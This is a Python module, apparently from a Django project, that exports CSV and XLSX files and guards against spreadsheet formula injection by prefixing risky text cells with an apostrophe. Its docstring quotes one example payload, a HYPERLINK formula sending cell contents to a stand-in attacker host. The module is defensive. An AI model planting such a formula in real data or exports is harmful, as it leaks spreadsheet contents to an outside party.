"""Writing spreadsheets people will open in Excel or LibreOffice, without formula injection.

A cell whose text starts with =, +, - or @ (or a tab or carriage return, which some programs skip
before reading one of those) is run as a formula when the file is opened: a participant named
`=HYPERLINK("https://evil.example/?"&A1, "Click")` would leak the sheet. Every export of text that
people typed goes through neutralise() / write_csv() / write_xlsx(), which put an apostrophe first:
spreadsheet programs show the text as typed and never run it. Numbers and dates are left as they are.

XLSX files are written by openpyxl (a maintained library; tests read them back with it). Every text
cell is written as a text cell, never a formula, and is neutralised as well, so a sheet saved again
as CSV stays safe.

Dates and times are values, not text: in a CSV an aware datetime is ISO 8601 with its offset on the
hub's clock (`2027-07-08T16:00:00+01:00`, lib/when.py) and a date is `2027-07-08`; in an XLSX both are
real Excel dates with a number format, so a spreadsheet sorts and filters them as dates. The XLSX
header row is bold and frozen, columns are as wide as what they hold, and a file can carry a second
sheet saying what each column means."""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Iterable, Sequence
from typing import IO, Any

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter

from ecfhub.lib import when

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Characters an XLSX file cannot hold (XML 1.0 forbids most control characters): dropped.
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_SHEET_NAME_LIMIT = 31
_BOLD = Font(bold=True)
_WRAP = Alignment(wrap_text=True, vertical="top")
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
# Column widths in characters: wide enough for the longest value seen, within reason.
_MIN_WIDTH, _MAX_WIDTH = 8, 60
NOTES_SHEET = "About these columns"

CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def neutralise(value: Any) -> Any:
    """The cell as it should be written: text that a spreadsheet would run gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


def cell_text(value: Any) -> Any:
    """A CSV cell: dates and times in ISO 8601 (an aware datetime on the hub's clock with its offset),
    text neutralised, anything else as it is."""
    if isinstance(value, datetime.datetime):
        return when.iso(value) if value.tzinfo is not None else value.replace(microsecond=0).isoformat()
    if isinstance(value, datetime.date):
        return value.isoformat()
    return neutralise(value)


def write_csv(out: IO[str], rows: Iterable[Iterable[Any]]) -> None:
    """CSV for spreadsheets (CRLF line ends), every text cell neutralised, dates in ISO 8601."""
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow([cell_text(cell) for cell in row])


def _shown_width(value: Any) -> int:
    if isinstance(value, datetime.datetime):
        return 16
    if isinstance(value, datetime.date):
        return 10
    return len(str(value)) if value is not None else 0


def _sheet_title(name: str) -> str:
    return re.sub(r"[\[\]:*?/\\]", " ", name)[:_SHEET_NAME_LIMIT]


def _write_sheet(book: Workbook, rows: Sequence[Sequence[Any]], *, title: str, wrap: bool = False) -> None:
    page = book.create_sheet(title=_sheet_title(title))
    # Write-only sheets take their layout before the first row: freeze the header, size the columns.
    page.freeze_panes = "A2"
    widths: dict[int, int] = {}
    for row in rows:
        for i, value in enumerate(row):
            widths[i] = max(widths.get(i, 0), _shown_width(value))
    for i, width in widths.items():
        page.column_dimensions[get_column_letter(i + 1)].width = min(max(width + 2, _MIN_WIDTH), _MAX_WIDTH)
    for n, row in enumerate(rows):
        cells = []
        for value in row:
            cell = WriteOnlyCell(page)
            if isinstance(value, str):
                # Set after construction: the constructor would read a leading "=" as a formula.
                cell.value = _NOT_IN_XML.sub("", neutralise(value))
                cell.data_type = "s"
            elif isinstance(value, datetime.datetime):
                cell.value = when.excel(value) if value.tzinfo is not None else value.replace(microsecond=0)
                cell.number_format = DATETIME_FORMAT
            elif isinstance(value, datetime.date):
                cell.value = value
                cell.number_format = DATE_FORMAT
            else:
                cell.value = value
            if n == 0:
                cell.font = _BOLD
            elif wrap:
                cell.alignment = _WRAP
            cells.append(cell)
        page.append(cells)


def write_xlsx(
    out: IO[bytes],
    rows: Iterable[Iterable[Any]],
    *,
    sheet: str,
    notes: Sequence[tuple[str, str]] = (),
) -> None:
    """An XLSX workbook whose first sheet, named `sheet`, holds `rows`: the first row is the header,
    bold and frozen; dates and times are Excel dates (aware datetimes on the hub's clock); every text
    cell is neutralised and stored as text (openpyxl would otherwise make "=…" a formula). `notes`,
    (column, meaning) pairs, become a second sheet "About these columns"."""
    book = Workbook(write_only=True)
    _write_sheet(book, [list(row) for row in rows], title=sheet)
    if notes:
        _write_sheet(book, [["column", "meaning"], *[[c, m] for c, m in notes]], title=NOTES_SHEET, wrap=True)
    book.save(out)


def download(
    rows: list[list[Any]],
    *,
    name: str,
    fmt: str,
    sheet: str = "Sheet 1",
    notes: Sequence[tuple[str, str]] = (),
) -> HttpResponse:
    """An attachment `name`.csv or `name`.xlsx holding `rows` (the first is the header); `notes` are the
    XLSX's second sheet (a CSV has one table only)."""
    if fmt == "xlsx":
        binary = io.BytesIO()
        write_xlsx(binary, rows, sheet=sheet, notes=notes)
        body: bytes | str = binary.getvalue()
    else:
        text = io.StringIO()
        write_csv(text, rows)
        body, fmt = text.getvalue(), "csv"
    response = HttpResponse(body, content_type=CONTENT_TYPES[fmt])
    response["Content-Disposition"] = f'attachment; filename="{name}.{fmt}"'
    return response
